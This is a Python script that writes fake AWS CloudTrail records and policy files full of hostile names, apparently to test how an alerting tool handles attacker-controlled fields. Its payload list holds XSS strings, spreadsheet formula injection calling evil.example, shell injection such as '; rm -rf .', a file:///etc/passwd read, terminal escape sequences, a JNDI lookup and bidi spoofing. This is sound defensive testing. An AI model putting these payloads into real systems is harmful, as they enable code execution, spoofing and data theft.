#!/usr/bin/env python3
"""Writes a trail of somebody who hides orders in names: make-trail.py FOLDER.

Every name stands where an attacker can put one: in names, descriptions and tags of images, in tags of snapshots and
instances, in session names, user agents, addresses, Regions, ids and names of trails. trail/ gets the records, policy.yaml and
old-policy.yaml a policy by which these names come to stand in alerts, names.txt how many there are.
"""
import json
import os
import sys

ESCAPE, BELL = "\x1b", "\x07"
NAMES = [
    # For a browser.
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'", '"', "&lt;script&gt;", "</code></pre><svg/onload=alert(1)>",
    "--><script>alert(1)</script><!--", "</title><style>*{display:none}</style>", "javascript:alert(1)", "]]><b>",
    '" onmouseover="alert(1)', "<a href=javascript:alert(1)>", "</details></section></main>", "<base href=//evil.example>",
    # For a spreadsheet.
    '=HYPERLINK("http://evil.example","x")', "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\u00a0=1+1", "\uff1d1+1", '",=1+1,"', '"\r\n"=1+1', ";=1+1",
    # For a shell.
    "$(touch PWNED)", "`touch PWNED`", "; rm -rf .; touch PWNED", "'; touch PWNED; '", "\ntouch PWNED\n", "| touch PWNED", "&& touch PWNED",
    "\\'; touch PWNED #", "${IFS}touch${IFS}PWNED", "!!", "--cli-input-json=file:///etc/passwd", "file:///etc/passwd", "~", "*", "-rf",
    # For a terminal.
    ESCAPE + "[2J", ESCAPE + "]0;owned" + BELL, ESCAPE + "]8;;http://evil.example" + ESCAPE + "\\x" + ESCAPE + "]8;;" + ESCAPE + "\\",
    ESCAPE + "]52;c;dG91Y2ggUFdORUQ=" + BELL, ESCAPE + "P$q" + ESCAPE + "\\", "\x9b2J", "\x9d0;owned\x9c", "\x90", "\x85", "\b\b\b\b", "\x7f", "\0",
    "a\rb", "\x0e", ESCAPE + "[8m",
    # For whoever reads.
    "\u202eimg-nedlog", "\u2066x\u2069", "\u200f", "\u061c", "a\u2028b", "a\u2029b", "\ufeff", "\u200b", "e\u0301" * 40, "\U0001f4a9", "\U000e0041\U000e0042",
    "\u05d0\u05d1\u05d2 123", "\ufff9", "\ue000", "\uffff", "gold\u0435n",
    # For a parser.
    "|", "a|b|c|d|e|f|g|h", "=", "a=b c=d", "\\", "\\|", "\\=", "\\n", "a\nCEF:0|x|y|1|1|evil|10|", "a\n{\"schema\":\"amiwatch.alert/1\"}", '","severity":"low',
    "${jndi:ldap://evil.example/x}", "%00", "%0d%0a", "%s%n", "{{7*7}}", "\ud800", "\udc00x", "\ud83d", "null", "", " ", "\t", "a" * 1023,
    "<" * 5000,
]

folder = sys.argv[1]
os.makedirs(os.path.join(folder, "trail"), exist_ok=True)
records = []
OWNER, OTHER = "777788889999", "210987654321"


def record(name, event, request, response=None, **more):
    """One record, in which whatever may be a name is this one."""
    number = len(records)
    found = {
        "eventVersion": "1.11", "eventID": f"00000000-0000-4000-9000-{number:012d}", "eventName": event, "eventSource": "ec2.amazonaws.com",
        "eventTime": f"2026-03-17T{8 + number // 3600:02d}:{number // 60 % 60:02d}:{number % 60:02d}Z", "awsRegion": "us-east-1",
        "recipientAccountId": OWNER, "sourceIPAddress": name, "userAgent": name, "readOnly": False, "eventType": "AwsApiCall",
        "userIdentity": {
            "type": "AssumedRole", "accountId": OWNER, "arn": f"arn:aws:sts::{OWNER}:assumed-role/developer/{name}", "principalId": f"AROA:{name}",
            "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{OWNER}:role/{name}", "userName": name}},
        },
        "requestParameters": request, "responseElements": response or {"_return": True},
    }
    found.update(more)
    records.append(found)


def tags(kind, key, value):
    return {"resourceType": kind, "tags": [{"key": "Role", "value": value}, {"key": "CostCenter", "value": value}, {"key": key, "value": value}]}


for number, name in enumerate(NAMES):
    image, instance = f"ami-{number:017x}", f"i-{number:017x}"
    specification = {"items": [tags("image", name, name), tags("snapshot", name, name)]}
    record(
        name, "CreateImage",
        {"instanceId": instance, "name": name, "description": name, "tagSpecificationSet": specification, "noReboot": False},
        {"imageId": image},
    )
    share = {"imageId": image, "attributeType": "launchPermission"}
    grantees = [
        {"group": "all"}, {"userId": OTHER}, {"organizationArn": f"arn:aws:organizations::{OTHER}:organization/o-{name}"}, {"organizationArn": name},
        {"organizationalUnitArn": f"arn:aws:organizations::{OTHER}:ou/o-strangerorg/ou-{name}"},
    ]
    record(name, "ModifyImageAttribute", share | {"launchPermission": {"add": {"items": grantees}}})
    record(name, "ModifyImageAttribute", share | {"imageId": f"ami-{name}", "launchPermission": {"add": {"items": [{"group": "all"}]}}})
    record(
        name, "ModifyImageAttribute", share | {"launchPermission": {"add": {"items": [{"userId": OTHER}]}}}, None, errorCode="Client.UnauthorizedOperation",
        errorMessage=name,
    )
    record(name, "ModifyImageAttribute", share | {"launchPermission": {"add": {"items": [{"group": "all"}]}}}, awsRegion=name)
    record(
        name, "ModifySnapshotAttribute",
        {"snapshotId": f"snap-{name}", "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": {"add": {"items": [{"group": "all"}, {"userId": OTHER}]}}},
    )
    record(
        name, "RunInstances",
        {"instancesSet": {"items": [{"imageId": image, "minCount": 1, "maxCount": 1}]}, "tagSpecificationSet": {"items": [tags("instance", name, name)]}},
        {"reservationId": name, "instancesSet": {"items": [{"instanceId": instance, "imageId": image, "tagSet": {"items": [{"key": name, "value": name}]}}]}},
    )
    record(
        name, "RunInstances", {"instancesSet": {"items": [{"imageId": f"ami-{name}", "minCount": 1, "maxCount": 1}]}},
        {"instancesSet": {"items": [{"instanceId": f"i-{name}", "imageId": f"ami-{name}"}]}}, awsRegion=name,
    )
    record(name, "CreateTags", {"resourcesSet": {"items": [{"resourceId": image}, {"resourceId": name}]}, "tagSet": {"items": [{"key": "Role", "value": name}, {"key": name, "value": name}]}})
    record(name, "CreateLaunchTemplate", {"CreateLaunchTemplateRequest": {"LaunchTemplateName": name, "LaunchTemplateData": {"ImageId": image}}}, {"CreateLaunchTemplateResponse": {"launchTemplate": {"launchTemplateId": f"lt-{name}", "launchTemplateName": name}}})
    record(name, "StopLogging", {"name": name}, eventSource="cloudtrail.amazonaws.com")
    record(name, "DisableImageBlockPublicAccess", {"DisableImageBlockPublicAccessRequest": {}}, {"DisableImageBlockPublicAccessResponse": {"imageBlockPublicAccessState": "unblocked"}}, awsRegion=name)
    record(name, "ReplaceImageCriteriaInAllowedImagesSettings", {"ReplaceImageCriteriaInAllowedImagesSettingsRequest": {"ImageCriterion": [{"ImageProvider": [name], "ImageName": [name]}]}}, awsRegion="eu-west-1")
    if number % 3 == 0:
        record(name, "DeregisterImage", {"imageId": f"ami-{name}"})

with open(os.path.join(folder, "trail", "hostile.jsonl"), "w", encoding="utf-8", errors="surrogatepass") as file:
    for number, found in enumerate(records):
        # Escaped as most writers do, and as bytes where these are a text.
        text = json.dumps(found)
        if number % 2:
            raw = json.dumps(found, ensure_ascii=False)
            if not any("\ud800" <= character <= "\udfff" for character in raw):
                text = raw
        file.write(text + "\n")
with open(os.path.join(folder, "trail", "broken.jsonl"), "wb") as file:
    for name in NAMES:
        file.write(b'{"eventVersion": "1.11", "eventSource": "ec2.amazonaws.com", "eventName": "RunInstances", "x": "' + name.encode("utf-8", "surrogatepass") + b'\x1b[2J\n')
NAMED = ["<script>alert(1)<", "\x1b[2J\x1b]0;x\x07", "\u202ex", "=cmd", "$(touch PWNED)", "'\"&"]
for number, name in enumerate(NAMED):
    with open(os.path.join(folder, "trail", f"{name}.jsonl"), "w", encoding="utf-8") as file:
        found = dict(records[number], eventID=f"00000000-0000-4000-a000-{number:012d}")
        file.write(json.dumps(found) + "\n")
for policy, trusted in [("policy.yaml", ""), ("old-policy.yaml", OTHER)]:
    with open(os.path.join(folder, policy), "w", encoding="utf-8") as file:
        file.write(
            f"""version: 1
organization: {{id: o-exampleorgid, accounts: ["{OWNER}"]}}
trust: {{accounts: {json.dumps([trusted] if trusted else [])}}}
images: {{approved: [{{owners: ["123456789012"], tags: {{Role: golden}}}}]}}
publishers: ["arn:aws:iam::123456789012:role/image-*"]
required_tags:
  - {{resource: image, key: CostCenter, pattern: "CC-*"}}
  - {{resource: snapshot, key: CostCenter, pattern: "CC-*"}}
baseline: {{block_public_access: block-new-sharing}}
suppressions:
  - {{rule: ami-unencrypted, resource: "ami-<script>alert(1)</script>*", reason: "<script>alert(1)</script>", owner: "\\e[2J\\u202E=1+1", expires: 2099-01-01}}
"""
        )
with open(os.path.join(folder, "names.txt"), "w", encoding="utf-8") as file:
    file.write(f"{len(NAMES)}\n")
